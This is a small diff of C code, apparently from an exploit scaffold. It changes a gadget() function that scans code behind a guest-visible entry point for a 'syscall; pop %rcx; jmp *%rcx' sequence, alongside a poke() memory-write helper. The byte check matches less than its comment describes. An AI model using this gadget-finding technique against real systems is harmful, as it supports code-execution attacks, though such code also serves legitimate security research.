@@ -133,12 +133,12 @@ static void poke(uint64_t at, const char *hex)
 
 /* ---- system calls ---- */
 
-/* The address of `syscall; ret` in the program, behind the entry that the guest knows. */
+/* The address of `syscall; pop %rcx; jmp *%rcx` in the program, behind the entry that the guest knows. */
 static uint64_t gadget(void)
 {
     const uint8_t *code = (const uint8_t *)door()[0];
     for (unsigned i = 0; i < SCAN_BYTES; i++) {
-        if (code[i] == 0x0f && code[i + 1] == 0x05 && code[i + 2] == 0xc3) {
+        if (code[i] == 0x0f && code[i + 1] == 0x05 && code[i + 2] == 0x59) {
             return (uint64_t)(code + i);
         }
     }
